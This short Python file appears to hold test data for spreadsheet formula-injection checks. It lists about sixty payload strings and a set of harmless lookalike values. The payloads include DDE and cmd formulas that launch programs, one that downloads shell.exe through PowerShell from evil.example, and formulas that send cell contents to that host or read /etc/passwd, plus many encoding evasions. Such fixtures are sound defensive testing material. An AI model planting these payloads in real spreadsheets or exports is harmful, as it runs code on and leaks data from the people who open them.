"""Sixty texts that a spreadsheet has been made to run, or might be."""

_RUNS = (
    "=1+1", "=1+1\n", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=DDE(\"cmd\",\"/C calc\",\"__DdeLink_60_870516294\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "-5", "+44",
    "=HYPERLINK(\"https://evil.example?leak=\"&A1&A2,\"Error: press here\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=IMPORTDATA(\"https://evil.example\")", "=IMAGE(\"https://evil.example/a.png\")", "='file:///etc/passwd'#$passwd.A1",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=EXEC(\"calc\")", "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://evil.example\",\"a\",0,0)",
    "=REGISTER.ID(\"kernel32\",\"WinExec\")", "={1,2;3,4}", "==1+1", "=-1", "=@A1", "=A1", "@A1", "@",
    "=", "+", "-", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\t", "\r", "\0", "\x01=1+1", "\x0b=1+1",
    " =1+1", "   +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1", "''=1+1", "\"=1+1\"", "\" =1+1", "“=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", " ＝1+1", "−1+1", "%0A=1+1", "|calc", "_x003D_1+1",
)  # fmt: skip
PAYLOADS = _RUNS
HARMLESS = ("Q3 2017/18", "'tis", "A=B", "1+1", "Children's", "#N/A", "#REF!", "00123", "TRUE", "3-4", "x_x0041_y", "")
